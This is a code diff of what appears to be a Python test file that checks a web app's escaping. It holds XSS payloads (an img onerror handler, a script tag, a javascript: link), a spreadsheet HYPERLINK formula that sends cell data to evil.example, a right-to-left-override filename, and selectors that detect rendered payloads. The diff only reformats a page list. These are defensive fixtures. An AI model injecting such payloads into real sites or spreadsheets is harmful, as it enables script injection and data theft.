@@ -26,7 +26,18 @@ SCRIPT = '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>'
 MARKUP = "<h1>H</h1> **b** [a](javascript:window.hacked=1) ![i](https://evil.example/i.png) $\\frac{1}{2}$ :red[r] :material/home:"
 FORMULA = '=HYPERLINK("https://evil.example?"&A1,"x")'
 NAMES = [f"Ann {SCRIPT} Fay", f"Bo {MARKUP} Lund", f"{FORMULA} Moe", "Di \u202egnp.exe\u202c Nox"]
-PAGES = ["", "quotes", "speakers", "entities", "topics", "figures", "statements", "articles", "review", "corpus"]
+PAGES = [
+    "",
+    "quotes",
+    "speakers",
+    "entities",
+    "topics",
+    "figures",
+    "statements",
+    "articles",
+    "review?review=By+chance",
+    "corpus",
+]
 OF_THE_TEXT = "img[src=x], img[src*=evil], a[href^='javascript'], a[href*='//evil.example'], .katex, main h1 h1, script:has-text('hacked')"
 
 
